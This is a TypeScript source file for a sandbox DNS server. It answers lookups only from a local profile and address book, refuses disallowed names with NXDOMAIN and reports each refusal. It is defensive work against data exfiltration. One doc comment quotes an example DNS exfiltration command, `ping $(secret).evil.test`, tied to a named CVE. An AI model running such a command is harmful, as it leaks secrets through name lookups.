import type { RemoteInfo, Socket as UdpSocket } from "node:dgram";
import type { AddressInfo } from "node:net";
import type { Decision } from "@bailiwick/policy";
import type { AddressBook } from "../addresses/address-book.ts";
import type { Inspection } from "../inspection/inspection.ts";
import { parseHostName } from "@bailiwick/base";
import type { HostRules } from "../names/host-rules.ts";
import { profileDecision, refusals, showName } from "../refusals.ts";
import type { Reports } from "../reports.ts";
import { encodeAddress, encodeEmpty, parseQuery, type Question, RCODE, TYPE_A } from "./message.ts";

/** Short, because a name that is not in use may lose its address. */
const TTL_SECONDS = 30;
/** Questions that wait for a decision or an owner; what is over that is dropped, and its client asks again. */
const MOST_PENDING = 512;

/** Types that ordinary clients ask beside A and that get "no such record" without a word: AAAA, SVCB, HTTPS. */
const ASKED_BESIDE = new Set([28, 64, 65]);

export interface DnsContext {
  readonly socket: UdpSocket;
  readonly rules: HostRules;
  readonly book: AddressBook;
  /** Never rejects. */
  readonly decide: (name: string, port: number, caller: undefined) => Decision | Promise<Decision>;
  readonly reports: Reports;
  readonly inspection: Inspection | undefined;
  readonly profileDigest: string;
}

/**
 * Answers the name questions of one sandbox from the profile and the address book alone: no question ever goes out, so
 * that a name can't carry data (`ping $(secret).evil.test`, CVE-2025-55284).
 *
 * What is refused is answered NXDOMAIN, not REFUSED: glibc retries REFUSED and then says "temporary failure", musl waits
 * out its whole timeout; NXDOMAIN fails at once everywhere, as "name does not resolve". A permitted name has only A
 * records; other types get an empty answer, because NXDOMAIN for one type denies the name for all (RFC 8020).
 */
export class DnsServer {
  readonly #context: DnsContext;
  /** Taken at the start: a closed socket has none, and a refusal is reported all the same. */
  readonly #local: AddressInfo;
  #pending = 0;
  #closed = false;

  constructor(context: DnsContext) {
    this.#context = context;
    this.#local = context.socket.address();
    context.socket.on("message", (message, from) => {
      this.#receive(message, from);
    });
    // Without a handler an error of the socket would end the process; names then stop resolving, which refuses.
    context.socket.on("error", () => {
      this.#closed = true;
    });
    context.socket.on("close", () => {
      this.#closed = true;
    });
  }

  close(): void {
    if (this.#closed) return;
    this.#closed = true;
    this.#context.socket.close();
  }

  #receive(message: Buffer, from: RemoteInfo): void {
    const parsed = parseQuery(message);
    if (parsed === undefined || from.port === 0) return;
    if ("answer" in parsed) {
      this.#send(parsed.answer, from);
      return;
    }
    if (this.#pending >= MOST_PENDING) return;
    this.#pending++;
    void this.#answer(parsed.question, from)
      .catch(() => encodeEmpty(parsed.question, RCODE.serverFailure))
      .then((answer) => {
        this.#pending--;
        this.#send(answer, from);
      });
  }

  async #answer(question: Question, from: RemoteInfo): Promise<Buffer> {
    const { rules, book, profileDigest } = this.#context;
    const name = parseHostName(question.name);
    const deny = (refusal: Parameters<typeof profileDecision>[0]): Decision => profileDecision(refusal, profileDigest);
    if (name === undefined) {
      const shown = showName(question.name);
      return await this.#refuse(question, from, deny(refusals.notAName(shown)));
    }
    if (name === "localhost" || name.endsWith(".localhost")) return answerLocalhost(question);
    if (name.endsWith(".arpa")) return await this.#refuse(question, from, deny(refusals.reverseLookup(name)));
    if (!rules.permitsName(name)) return await this.#refuse(question, from, deny(refusals.nameNotAllowed(name)));
    const decision = await this.#context.decide(name, 0, undefined);
    if (decision.outcome !== "allow") return await this.#refuse(question, from, decision);
    if (ASKED_BESIDE.has(question.type)) return encodeEmpty(question, RCODE.noError);
    if (question.type !== TYPE_A) {
      await this.#report(question, from, deny(refusals.recordNotServed(name, question.typeName)));
      return encodeEmpty(question, RCODE.noError);
    }
    const address = book.assign(name);
    if (this.#context.inspection?.covers(name) === true) this.#context.inspection.prepare(name);
    if (address !== undefined) return encodeAddress(question, address, TTL_SECONDS);
    await this.#report(question, from, deny(refusals.bookFull(name)));
    return encodeEmpty(question, RCODE.serverFailure, refusals.bookFull(name).reason);
  }

  async #refuse(question: Question, from: RemoteInfo, decision: Decision): Promise<Buffer> {
    await this.#report(question, from, decision);
    return encodeEmpty(question, RCODE.nameError, [decision.reason, decision.instead].filter(Boolean).join("; "));
  }

  /** Before the answer goes out: the asker is still there to be found, and a refusal stands before it is seen. */
  async #report(question: Question, from: RemoteInfo, decision: Decision): Promise<void> {
    const exec = await this.#context.reports.ownerOf({
      protocol: "udp",
      localAddress: from.address,
      localPort: from.port,
      remoteAddress: this.#local.address,
      remotePort: this.#local.port,
    });
    const name = parseHostName(question.name) ?? showName(question.name);
    this.#context.reports.refused(name, 0, exec, decision);
  }

  #send(answer: Buffer, to: RemoteInfo): void {
    if (this.#closed) return;
    // An answer that can't be delivered is the asker's loss: it asks again.
    this.#context.socket.send(answer, to.port, to.address, () => undefined);
  }
}

/** The sandbox's own loopback, for clients that do not read /etc/hosts (RFC 6761, section 6.3): leads nowhere else. */
function answerLocalhost(question: Question): Buffer {
  if (question.type === TYPE_A) return encodeAddress(question, "127.0.0.1", TTL_SECONDS);
  return encodeEmpty(question, RCODE.noError);
}
